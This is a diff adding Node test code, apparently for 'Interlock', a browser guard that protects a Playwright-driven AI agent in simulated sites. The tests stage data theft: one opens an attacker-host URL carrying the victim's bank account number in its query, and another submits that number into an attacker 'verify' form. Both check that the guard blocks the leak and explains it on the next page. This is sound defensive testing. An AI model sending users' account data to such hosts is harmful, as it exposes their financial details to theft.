@@ -1,0 +1,56 @@
+// An agent that left the page in which it was told what was stopped, or whose tool shows no page of ours, is told by its next page.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { playwrightHands } from '../agents/playwright.mjs';
+import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
+import { sceneOf } from '../attacks/attempt.mjs';
+import { flagsFor, startSites } from '../sites/server.mjs';
+import { HOSTS, PERSON, urlOf } from '../sites/world.mjs';
+import { extension } from './with-guard.mjs';
+
+async function afterTheBank(tell) {
+  const sites = await startSites();
+  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
+  const scene = sceneOf(hands, sites);
+  try {
+    await signInToBank(hands, scene.world);
+    await readBalance(hands, scene.memory);
+    await tell(scene);
+  } finally {
+    await hands.close();
+    await sites.close();
+  }
+}
+
+const says = async (hands, text) => (await hands.read()).includes(text);
+
+test(
+  'a held navigation is told of by the next page, in that tab or another, and by that one alone',
+  { timeout: 60_000 },
+  () =>
+    afterTheBank(async ({ hands }) => {
+      const url = urlOf('attacker', `/c?d=${encodeURIComponent(PERSON.account)}`);
+      const reason = `Before this page, on the way to ${HOSTS.attacker}: Interlock stopped this`;
+      const held = await hands.newTab(url);
+      await until(() => says(held, 'Stopped by Interlock'), 'the stop in its own tab', 10_000);
+      await hands.goto(urlOf('forum'));
+      await until(() => says(hands, reason), 'why, in the next page', 5_000);
+      await hands.goto(urlOf('shop'));
+      await hands.wait(500);
+      assert.equal(await says(hands, 'Before this page'), false);
+      await hands.goto(url);
+      await until(() => says(hands, 'Stopped by Interlock'), 'the stop', 10_000);
+      await hands.goto(urlOf('forum'));
+      await until(() => says(hands, reason), 'why, in the next page of that tab', 5_000);
+    }),
+);
+
+test('text that was kept from a form is told of by the page that the form leads to', { timeout: 60_000 }, () =>
+  afterTheBank(async ({ hands }) => {
+    await hands.goto(urlOf('attacker', '/verify'));
+    await hands.fill({ label: 'Account number' }, PERSON.account);
+    await hands.click({ button: 'Submit' });
+    await until(() => says(hands, 'Thank you'), 'the page after the form', 5_000);
+    await until(() => says(hands, 'Before this page: Interlock stopped this: Text or numbers'), 'why, there', 5_000);
+  }),
+);
